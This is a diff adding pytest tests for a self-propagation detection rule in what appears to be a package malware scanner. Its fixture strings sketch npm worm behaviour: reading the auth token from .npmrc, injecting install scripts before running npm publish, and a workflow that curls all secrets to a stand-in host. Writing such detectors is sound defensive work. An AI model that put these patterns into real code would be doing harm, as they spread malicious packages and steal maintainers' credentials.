@@ -1,0 +1,40 @@
+import pytest
+
+from lazaretto.detect.rules.javascript.self_propagation import RULE
+
+
+def test_publishes_with_an_install_script(look):
+    source = (
+        "const token = /_authToken=(.+)/.exec(read('.npmrc'));\npkg.scripts.postinstall = 'node bundle.js';\n"
+        "require('child_process').execSync('npm publish');\n"
+    )
+    assert look(RULE, source) == [
+        (2, "CRITICAL", "HIGH", "publishes other packages with an install script put into them")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("source", "grade"),
+    [
+        ("get('/-/v1/search?text=maintainer:' + who); spawn('npm', ['publish'], { env: { NPM_TOKEN } })", ("CRITICAL", "HIGH")),
+        ("pkg.scripts['preinstall'] = 'node x.js'; exec('npm publish')", ("CRITICAL", "MEDIUM")),
+        ("fs.writeFileSync('.github/workflows/a.yml', 'run: curl -d \"${{ toJSON(secrets) }}\" https://x.example.test')", ("HIGH", "HIGH")),
+        ("require('child_process').execSync('trufflehog filesystem /'); post({ method: 'POST', body })", ("HIGH", "MEDIUM")),
+    ],
+)  # fmt: skip
+def test_grades(look, source, grade):
+    assert [fact[1:3] for fact in look(RULE, source)] == [grade]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "pkg.version = next; fs.writeFileSync('package.json', JSON.stringify(pkg)); execSync('npm publish'); // .npmrc",
+        "if (pkg.scripts.postinstall === 'x') warn(); execSync('npm publish')",
+        "fs.writeFileSync('.github/workflows/ci.yml', template)",
+        "const words = ['trufflehog', 'gitleaks']",
+        "// npm publish",
+    ],
+)
+def test_near_misses(look, source):
+    assert look(RULE, source) == []
